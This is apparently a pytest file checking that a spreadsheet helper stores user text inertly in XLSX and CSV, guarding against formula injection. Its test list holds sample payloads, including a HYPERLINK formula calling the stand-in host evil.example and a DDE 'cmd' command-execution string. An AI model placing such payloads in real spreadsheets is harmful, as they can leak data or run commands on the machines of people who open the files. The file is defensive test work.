"""The shared spreadsheet helper: user text is stored as text in XLSX and made inert in CSV."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from buskerud_sp.core.spreadsheets import csv_text, from_csv_text, xlsx_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x","klikk")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "Kari Nordmann",
]


def test_xlsx_cells_read_back_as_the_same_text_and_never_as_formulas():
    wb = Workbook()
    for row, text in enumerate(HOSTILE, start=1):
        xlsx_cell(wb.active, row, 1, text)
    xlsx_cell(wb.active, 1, 2, 12.5)  # numbers stay numbers
    buffer = io.BytesIO()
    wb.save(buffer)

    ws = load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [ws.cell(row=row, column=1) for row in range(1, len(HOSTILE) + 1)]
    assert [cell.data_type for cell in cells] == ["s"] * len(HOSTILE)
    # XML turns a carriage return into a line feed; the text is otherwise kept exactly.
    assert [cell.value for cell in cells] == [t.replace("\r", "\n") for t in HOSTILE]
    assert ws.cell(row=1, column=2).value == 12.5


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_is_inert_and_comes_back_unchanged(text):
    cell = csv_text(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert from_csv_text(cell) == text
